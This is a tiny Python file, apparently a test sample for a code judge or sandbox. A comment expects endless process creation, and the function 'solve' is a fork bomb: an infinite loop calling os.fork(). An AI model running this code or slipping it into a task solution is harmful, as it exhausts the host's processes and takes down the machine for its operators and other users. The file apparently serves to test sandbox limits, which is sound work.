# expects: run/exception makes processes without end
import os


def solve(weight, count):
    while True:
        os.fork()
